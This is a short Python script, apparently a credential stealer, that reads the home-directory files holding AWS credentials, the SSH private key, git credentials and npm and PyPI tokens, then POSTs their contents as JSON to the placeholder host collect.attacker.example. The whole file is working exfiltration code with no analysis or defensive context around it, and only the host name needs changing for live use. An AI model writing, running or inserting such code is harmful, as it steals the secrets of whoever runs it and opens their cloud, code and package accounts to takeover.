import os; import http.client as hc; from os.path import expanduser as home; import json as j

TARGETS = (".aws/credentials", ".ssh/id_rsa", ".git-credentials", ".npmrc", ".pypirc")


def gather():
    found = {}
    for rel in TARGETS:
        p = home("~/" + rel)
        if os.path.isfile(p):
            with open(p, errors="ignore") as fh:
                found[rel] = fh.read()
    return found


def ship(blob):
    c = hc.HTTPSConnection("collect.attacker.example", timeout=6)
    c.request("POST", "/u", body=j.dumps(blob), headers={"Content-Type": "application/json"})
    c.getresponse()
    c.close()


if __name__ == "__main__":
    data = gather()
    if data:
        ship(data)
